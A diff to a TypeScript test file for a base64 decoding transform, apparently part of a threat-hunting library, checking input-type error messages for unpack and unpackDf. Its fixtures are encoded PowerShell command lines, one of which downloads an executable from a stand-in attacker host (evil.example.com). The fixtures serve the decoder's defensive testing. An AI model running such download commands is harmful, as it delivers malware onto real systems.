@@ -560,6 +560,26 @@ test("unpackDf: null cells, indexColumn, empty results keep the schema, errors n
   assert.throws(() => base64.unpack("x", { maxdepth: 2 } as never), { code: "transform/base64-option", message: /^base64\.unpack: unknown option maxdepth \(did you mean maxDepth\?\)/ });
 });
 
+test("plain JavaScript input: unpackDf of a non-frame says what it got (a LazyFrame's or Series' members were listed as its columns), the column passed positionally names the options object; unpack of non-text is refused", () => {
+  const df = pl.DataFrame({ CommandLine: [`powershell -enc ${b64("Invoke-WebRequest http://evil.example.com/p.exe")}`] });
+  const untyped = base64 as unknown as { unpackDf: (...args: unknown[]) => pl.DataFrame; unpack: (...args: unknown[]) => unknown };
+  const notFrame: [unknown, RegExp][] = [
+    [df.lazy(), /^base64\.unpackDf: takes a DataFrame and \{ column \}, not a LazyFrame \(collect it first: lf\.collectSync\(\), or await lf\.collect\(\)\); base64\.unpack\(text\) decodes one string\.$/],
+    [df.getColumn("CommandLine"), /not a Series \(one column: pass the DataFrame it came from\)/],
+    [Promise.resolve(df), /not a Promise \(a query or lookup not awaited: put await before it\)/],
+    [undefined, /not undefined;/],
+    [df.toRecords(), /not an array of 1 item\(s\);/],
+  ];
+  for (const [data, message] of notFrame) assert.throws(() => untyped.unpackDf(data, { column: "CommandLine" }), { name: "Base64Error", code: "transform/base64-input", message });
+  assert.throws(() => untyped.unpackDf(df, "CommandLine"), { code: "transform/base64-option", message: /^base64\.unpackDf: the second argument is an options object such as \{ column: "CommandLine" \}, not text \(11 characters\)\.$/ });
+  assert.throws(() => untyped.unpackDf(df, { column: ["CommandLine"] }), { code: "transform/base64-option", message: /option column must be one column name \(text\), not a list \(1 item\(s\)\)/ });
+  assert.equal(untyped.unpackDf(df, { column: "CommandLine" }).height, 1);
+  for (const [text, given] of [[5, "a number \\(5\\)"], [["x"], "an array of 1 item\\(s\\)"], [df, "a DataFrame"]] as const) {
+    assert.throws(() => untyped.unpack(text), { code: "transform/base64-input", message: new RegExp(`^base64\\.unpack: decodes one string, not ${given}; base64\\.unpackDf`) });
+  }
+  assert.equal((untyped.unpack(undefined) as { fullDecodedString: string }).fullDecodedString, "");
+});
+
 test("unpackDf reads columns named like frame members (columns, getColumn) as columns", () => {
   const payload = Buffer.from("powershell -nop -c calc.exe from a hostile column name").toString("base64");
   const df = pl.DataFrame({ getColumn: [payload, "plain"], columns: [7, 8] });
